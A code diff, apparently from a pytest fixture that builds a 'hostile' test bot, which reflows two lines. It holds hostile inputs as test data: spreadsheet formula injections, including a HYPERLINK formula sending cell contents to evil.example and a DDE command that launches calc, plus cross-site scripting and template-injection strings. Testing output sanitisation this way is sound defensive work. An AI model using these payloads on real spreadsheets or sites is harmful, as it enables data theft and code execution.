@@ -32,7 +32,8 @@ import zlib
 
 MAGREB = set(__MAGREB__)
 LONG = __LONG__
-STARTS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "  =cmd|' /C calc'!A0"]
+STARTS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+          "  =cmd|' /C calc'!A0"]
 BODY = ("<script>alert('x')</script><img src=x onerror=alert(1)><a href=\"javascript:alert(2)\">a</a> "
         "[clic](javascript:alert(3)) ![t](http://evil.example/t.png) <iframe src=//evil.example></iframe>\n"
         "| a | b |\n|---|---|\n```\n</pre></code>{{ 7*7 }}{% raw %}\n"
@@ -82,7 +83,8 @@ def hostile(tmp_path_factory):
     magreb, long_name = list(groups["magreb"].variants), groups["espana"].variants[0]
     code = tmp / "code"
     code.mkdir()
-    (code / "fp_hostile_bot.py").write_text(BOT.replace("__MAGREB__", repr(magreb)).replace("__LONG__", repr(long_name)),
+    (code / "fp_hostile_bot.py").write_text(BOT.replace("__MAGREB__", repr(magreb)).replace("__LONG__",
+                                                                                            repr(long_name)),
                                             encoding="utf-8")
     (code / "fp_hostile_judge.py").write_text(JUDGE, encoding="utf-8")
     battery = demo_battery(tmp / "b", {"kind": "python", "callable": "fp_hostile_bot:answer", "path": str(code)},
